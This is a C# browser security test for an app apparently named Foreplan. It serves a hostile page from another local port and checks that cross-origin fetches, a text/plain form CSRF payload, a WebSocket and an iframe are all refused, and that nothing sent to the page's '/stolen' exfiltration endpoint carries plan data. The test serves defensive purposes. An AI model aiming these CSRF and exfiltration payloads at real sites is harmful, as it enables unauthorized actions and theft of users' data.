using System.Net;
using System.Net.Sockets;
using System.Text;
using Foreplan.Web.Tests;

namespace Foreplan.Browser.Tests;

public sealed class AttackTests
{
    [Fact]
    public async Task A_page_on_another_port_changes_nothing_and_sees_nothing()
    {
        await using var visit = await Visit.BeginAsync(StandTexts.Answered);
        var page = await visit.OpenAsync();
        await page.Locator(".plan h1").WaitForAsync();
        var before = visit.Read($"{Visit.Folder}/plan.md");

        // The attacker has the same host, so that the browser gives it the cookie as well.
        using var attacker = new TcpListener(IPAddress.Loopback, 0);
        attacker.Start();
        var port = ((IPEndPoint)attacker.LocalEndpoint).Port;
        var heard = new List<string>();
#pragma warning disable CA2025 // It is waited for at the end, after the listener stopped.
        var serving = ServeAsync(attacker, Attack(visit.Base.ToString().TrimEnd('/')), heard);
#pragma warning restore CA2025
        var evil = await visit.Context.NewPageAsync();
        var answers = new List<(string Url, int Status)>();
        evil.Response += (_, answer) => answers.Add((answer.Url, answer.Status));
        await evil.GotoAsync($"http://127.0.0.1:{port}/");
        await evil.WaitForFunctionAsync("window.results && window.results.length >= 9");
        var results = await evil.EvaluateAsync<string[]>("window.results");

        Assert.All(results, result => Assert.EndsWith("refused", result, StringComparison.Ordinal));
        Assert.Equal(before, visit.Read($"{Visit.Folder}/plan.md"));
        Assert.False(visit.Has($"{Visit.Folder}/notes.json"));
        Assert.False(visit.Has($"{Visit.Folder}/plan.lock.json"));
        // It could tell itself whatever it read, and read nothing.
        Assert.Contains(heard, line => line.StartsWith("POST /stolen", StringComparison.Ordinal));
        Assert.DoesNotContain(heard, line => line.Contains("Add a greeting", StringComparison.Ordinal));
        // The browser alone keeps an answer from it: the page gave none.
        var api = answers.Where(answer => answer.Url.StartsWith($"{visit.Base}api/", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(api);
        Assert.All(api, answer => Assert.InRange(answer.Status, 400, 499));
        var framed = Assert.Single(evil.Frames, frame => frame.ParentFrame is not null && frame.Name != "sink");
        Assert.DoesNotContain("Foreplan", await framed.ContentAsync(), StringComparison.Ordinal);
        Assert.DoesNotContain(visit.Base.Authority, framed.Url, StringComparison.Ordinal);

        // The page itself still works.
        await page.ReloadAsync();
        await page.Locator(".plan h1").WaitForAsync();
        attacker.Stop();
        await serving;
    }

    private static string Attack(string target) => $$"""
        <!doctype html><title>evil</title><body><iframe name=sink></iframe><script>
        window.results = [];
        const tell = (what, well) => results.push(what + ' ' + (well ? 'LET IN' : 'refused'));
        const api = path => '{{target}}/api/' + path + '?plan=plans%2F001-greeting';
        const json = { 'Content-Type': 'application/json' };
        const steal = text => fetch('/stolen', { method: 'POST', body: text });
        const seen = (what, promise) => promise.then(async answer => { await steal(what + ' ' + await answer.text()); tell(what, answer.type !== 'opaque' && answer.ok); }).catch(async () => { await steal(what + ' nothing'); tell(what, false); });
        seen('fetch view', fetch(api('view'), { credentials: 'include' }));
        seen('fetch opaque note', fetch(api('notes'), { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"text":"evil"}' }));
        seen('fetch json note', fetch(api('notes'), { method: 'POST', credentials: 'include', headers: json, body: '{"text":"evil"}' }));
        seen('fetch approve', fetch(api('approve'), { method: 'POST', credentials: 'include', headers: json, body: '{"nonce":"x","sha256":"x"}' }));
        seen('fetch session', fetch('{{target}}/api/session', { method: 'POST', mode: 'no-cors', body: '{"link":"x"}' }));
        const image = new Image(); image.onload = () => tell('image', true); image.onerror = () => tell('image', false); image.src = '{{target}}/ui/icon.svg?x';
        const frame = document.createElement('iframe'); frame.src = '{{target}}/plan/plans/001-greeting'; document.body.append(frame);
        setTimeout(() => tell('iframe', false), 1500);
        const socket = new WebSocket('{{target}}'.replace('http', 'ws') + '/api/feed?plan=plans%2F001-greeting'); socket.onopen = () => tell('socket', true); socket.onerror = () => tell('socket', false);
        const form = document.createElement('form'); form.action = api('notes'); form.method = 'POST'; form.enctype = 'text/plain'; form.target = 'sink';
        form.innerHTML = '<input name=\'{"text":"evil","x":"\' value=\'"}\'>'; document.body.append(form); form.submit();
        setTimeout(() => tell('form', false), 1500);
        </script>
        """;

    private static async Task ServeAsync(TcpListener listener, string page, List<string> heard)
    {
        try
        {
            while (true)
            {
                using var client = await listener.AcceptTcpClientAsync();
                await using var stream = client.GetStream();
                var buffer = new byte[65_536];
                var read = await stream.ReadAsync(buffer);
                heard.Add(Encoding.UTF8.GetString(buffer, 0, read));
                var body = Encoding.UTF8.GetBytes(page);
                await stream.WriteAsync(Encoding.UTF8.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {body.Length}\r\nConnection: close\r\n\r\n"));
                await stream.WriteAsync(body);
            }
        }
        catch (Exception over) when (over is SocketException or ObjectDisposedException or IOException)
        {
            // The test is over.
        }
    }
}
